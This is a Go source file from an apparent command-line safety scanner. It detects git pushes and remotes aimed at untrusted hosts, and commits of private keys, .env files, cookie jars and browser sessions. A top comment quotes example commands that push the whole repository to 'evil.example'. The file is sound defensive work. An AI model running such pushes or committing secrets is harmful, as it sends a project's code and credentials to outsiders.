package heuristics

import (
	"path"
	"slices"
	"strings"
)

// Exfiltration through git: the repository pushed to a server nobody
// configured. "git push https://evil.example/x.git --all" and
// "git remote add m https://evil.example/x.git && git push m --all" send
// the whole code base away; a remote added or repointed to such a host,
// without a push yet, is escalated because the next push goes there.
// Remotes and URLs on hosts in Config.TrustedHosts, local paths and
// loopback hosts are left alone, as are pushes to remotes configured
// before this command line (git push origin feature).

// gitRemoteDef is a remote this command line defines.
type gitRemoteDef struct {
	name, url, host string
	view            int // index in cmdScan.views (an index keeps the views on the stack)
	pushed          bool
	// pushURL says the URL is where the remote pushes, apart from where
	// it fetches (set-url --push, set-url --add, remote.NAME.pushurl):
	// every later push of the remote goes there too.
	pushURL bool
}

// gitSubcommand returns git's subcommand and its arguments, skipping the
// global options (-C dir, -c key=value, --git-dir=…; --exec-path takes
// its value only with =).
func gitSubcommand(args []string) (string, []string) {
	return subcommandOf(args, "-C", "-c", "--git-dir", "--work-tree", "--namespace", "--config-env", "--super-prefix")
}

// subcommandOf returns the first operand of args and the arguments after
// it, skipping options; valued names the options whose value is the next
// word.
func subcommandOf(args []string, valued ...string) (string, []string) {
	for i := 0; i < len(args); i++ {
		a := args[i]
		if slices.Contains(valued, a) {
			i++
			continue
		}
		if strings.HasPrefix(a, "-") {
			continue
		}
		return a, args[i+1:]
	}
	return "", nil
}

// gitRemoteHost returns the host of a git remote URL: "https://h/x.git",
// "ssh://git@h:22/x.git" or the scp-like "git@h:x.git". Local paths,
// file:// URLs and loopback hosts give "".
func gitRemoteHost(url string) string {
	var h string
	if strings.Contains(url, "://") {
		h = urlHost(url)
	} else {
		h = remoteHost(url)
	}
	if h == "localhost" || h == "::1" || strings.HasPrefix(h, "127.") {
		return ""
	}
	return h
}

func (s *scan) checkGitExfil(cs *cmdScan) {
	if !s.enabled(rExfilGitPush) && !s.enabled(rExfilGitRemote) {
		return
	}
	// Two passes over the views, so the everyday "git push origin x"
	// allocates nothing: remotes this line defines, then its pushes.
	var defs []gitRemoteDef
	pushes := false
	for i := range cs.views {
		v := &cs.views[i]
		if v.prog != "git" {
			continue
		}
		sub, rest := gitSubcommand(v.args)
		switch sub {
		case "push":
			pushes = true
		case "remote":
			verb, rest := gitSubcommand(rest) // remote's own options come first (-v)
			if verb != "add" && verb != "set-url" || hasLongFlag(rest, "delete") {
				continue
			}
			// add [-t branch] [-m master] [-f] [--mirror=…] name url
			// set-url [--push] [--add] name newurl [oldurl]
			if ops := operands(rest, "tm", nil); len(ops) >= 2 {
				pushURL := verb == "set-url" && (hasLongFlag(rest, "push") || hasLongFlag(rest, "add"))
				defs = append(defs, gitRemoteDef{name: ops[0], url: ops[1], host: gitRemoteHost(ops[1]), view: i, pushURL: pushURL})
			}
		case "config":
			// git config [--global] remote.NAME.url URL (also pushurl)
			ops := operands(rest, "f", []string{"--file", "--blob", "--type", "--default", "--comment"})
			if len(ops) == 3 && ops[0] == "set" { // git config set KEY VALUE (git 2.46+)
				ops = ops[1:]
			}
			if len(ops) != 2 {
				continue
			}
			name, ok := gitRemoteURLKey(ops[0])
			if !ok {
				continue
			}
			pushURL := len(ops[0]) > 8 && strings.EqualFold(ops[0][len(ops[0])-8:], ".pushurl")
			defs = append(defs, gitRemoteDef{name: name, url: ops[1], host: gitRemoteHost(ops[1]), view: i, pushURL: pushURL})
		}
	}
	for i := range cs.views {
		v := &cs.views[i]
		if !pushes {
			break
		}
		if v.prog != "git" {
			continue
		}
		if sub, _ := gitSubcommand(v.args); sub != "push" {
			continue
		}
		repo := gitPushRepository(v)
		host := ""
		isURL := strings.Contains(repo, "://") || remoteHost(repo) != ""
		if isURL {
			host = gitRemoteHost(repo)
		} else {
			if repo == "" {
				repo = "origin" // git push with no repository: usually origin
			}
			for k := range defs {
				if defs[k].name == repo {
					defs[k].pushed = true
					host = defs[k].host // the last definition wins, as in git
				}
			}
		}
		if host == "" || s.an.trusted.match(host) {
			continue
		}
		what := "the repository"
		if hasLongFlag(v.args, "all") || hasLongFlag(v.args, "mirror") {
			what = "every branch of the repository"
		}
		s.add(rExfilGitPush, "git push sends "+what+" to "+host+", which is not in trusted_hosts: the code leaves for a server nobody configured; push to a remote you already use, or add the host to trusted_hosts if it is yours",
			"git "+evJoin(v.args))
		break
	}
	for k := range defs {
		d := &defs[k]
		if d.pushed && d.host != "" && sharedCodeHost(d.host) && s.an.trusted.match(d.host) {
			// Trusting github.com trusts the project's own repositories
			// there, not every account's: a remote pointed at one and
			// pushed to in the same line may be anyone's.
			s.add(rExfilGitRemote, "points the git remote "+d.name+" at "+d.url+" and pushes to it: "+d.host+" hosts anyone's repositories; confirm this one belongs to the project",
				"git "+evJoin(cs.views[d.view].args))
			break
		}
		if d.pushURL && !d.pushed && d.host != "" && sharedCodeHost(d.host) && s.an.trusted.match(d.host) {
			// A push URL apart from the fetch URL: every later push of the
			// remote also sends the code to a repository on a host where
			// anyone has one.
			s.add(rExfilGitRemote, "makes every later push of the git remote "+d.name+" go to "+d.url+", apart from where it fetches: "+d.host+" hosts anyone's repositories, so the code is copied to one nobody checked; confirm it belongs to the project",
				"git "+evJoin(cs.views[d.view].args))
			break
		}
		if d.pushed || d.host == "" || s.an.trusted.match(d.host) {
			continue
		}
		s.add(rExfilGitRemote, "points the git remote "+d.name+" at "+d.host+", which is not in trusted_hosts: the next push sends the code there; confirm the host belongs to the project",
			"git "+evJoin(cs.views[d.view].args))
		break
	}
}

// sharedCodeHost reports the code hosts where anyone can open an
// account, so that the host alone says nothing of whose repository it is.
func sharedCodeHost(host string) bool {
	switch strings.TrimPrefix(host, "www.") {
	case "github.com", "gitlab.com", "bitbucket.org", "codeberg.org", "gitea.com", "git.sr.ht", "huggingface.co", "sourceforge.net":
		return true
	}
	return false
}

// gitRemoteURLKey returns NAME for the config keys remote.NAME.url and
// remote.NAME.pushurl (section and variable names ignore case).
func gitRemoteURLKey(key string) (string, bool) {
	const prefix = "remote."
	if len(key) <= len(prefix) || !strings.EqualFold(key[:len(prefix)], prefix) {
		return "", false
	}
	rest := key[len(prefix):]
	for _, suffix := range []string{".url", ".pushurl"} {
		if n := len(rest) - len(suffix); n > 0 && strings.EqualFold(rest[n:], suffix) {
			return rest[:n], true
		}
	}
	return "", false
}

// gitPushRepository returns the repository a git push names: --repo=… or
// the first operand, "" when none is given.
func gitPushRepository(v *cmdView) string {
	_, rest := gitSubcommand(v.args)
	repo := ""
	flagValues(rest, 0, "repo", func(val string) {
		if repo == "" {
			repo = val
		}
	})
	if repo != "" {
		return repo
	}
	ops := operands(rest, "o", []string{"--push-option", "--receive-pack", "--exec", "--repo"})
	if len(ops) == 0 {
		return ""
	}
	return ops[0]
}

// checkSecretCommits judges git add and git commit of files that hold
// secrets: .env files, keys and credentials (not .env.example, which
// projects commit on purpose).
func (s *scan) checkSecretCommits(cs *cmdScan) {
	if !s.enabled(rSecretCommit) || cs.fams&famGit == 0 {
		return
	}
	for i := range cs.views {
		v := &cs.views[i]
		if v.prog != "git" {
			continue
		}
		sub, rest := gitSubcommand(v.args)
		if sub != "add" && sub != "commit" && sub != "stage" {
			continue
		}
		for _, op := range operands(rest, "mFCcSt", []string{"--message", "--file", "--author", "--date", "--reuse-message", "--fixup", "--squash", "--template", "--pathspec-from-file", "--chmod"}) {
			if sens, label := cs.classifyArg(v.c, op); sens != sensNone && sens != sensLeakOnly {
				s.add(rSecretCommit, "git "+sub+" puts "+label+" ("+op+") into the repository: once pushed it stays in the history; keep it out (.gitignore) and use a secret store", "git "+evJoin(v.args))
				return
			}
			if label := committedSecretName(op); label != "" {
				s.add(rSecretCommit, "git "+sub+" puts "+label+" ("+op+") into the repository: once pushed it stays in the history of every clone; keep it out (.gitignore) and hand it to CI as a secret", "git "+evJoin(v.args))
				return
			}
			if name := cs.secretWrittenInto(v, cs.resolveIn(v.c, op).Abs); name != "" {
				s.add(rSecretCommit, "git "+sub+" puts "+op+" into the repository, and the line has just written $"+name+" into it: once pushed the secret stays in the history; keep it out (.gitignore) and use a secret store", "git "+evJoin(v.args))
				return
			}
		}
	}
}

// committedSecretName names what a file added to a repository holds by
// its name alone, when that is a secret a repository must not hold
// though reading it may be everyday: a private key (signing_key.pem,
// server.key), a browser test's saved session (Playwright's
// playwright/.auth/user.json, a storageState file), a cookie jar.
func committedSecretName(op string) string {
	base := strings.ToLower(baseName(op))
	switch ext := path.Ext(base); {
	case strings.Contains(base, "pub"):
		return "" // public.key, key.pub.pem
	case ext == ".key" || ext == ".ppk" || ext == ".p8":
		return "a private key"
	case ext == ".pem" && (strings.Contains(base, "key") || strings.Contains(base, "priv")):
		return "a private key"
	case ext == ".json" && (strings.Contains(op, ".auth/") || strings.HasPrefix(base, "storagestate") || strings.HasPrefix(base, "storage-state")):
		return "a browser session (its cookies and tokens)"
	case base == "cookies.txt" || base == "cookies.json" || base == "cookiejar.txt":
		return "a cookie jar"
	case strings.HasSuffix(base, ".postman_environment.json") && !strings.Contains(base, "example"):
		return "a Postman environment (its API keys and tokens)"
	}
	return ""
}

// secretWrittenInto returns the secret variable a command of the line
// before v writes into abs (echo "…_authToken=${NPM_TOKEN}" >> .npmrc),
// or "".
func (cs *cmdScan) secretWrittenInto(v *cmdView, abs string) string {
	for i := 0; i < v.idx; i++ {
		u := &cs.views[i]
		if len(u.c.Redirects) == 0 && u.prog != "tee" {
			continue
		}
		for _, f := range cs.writtenFiles(u) {
			if f.abs == abs {
				if name := secretVariableIn(f.content); name != "" {
					return name
				}
			}
		}
	}
	return ""
}
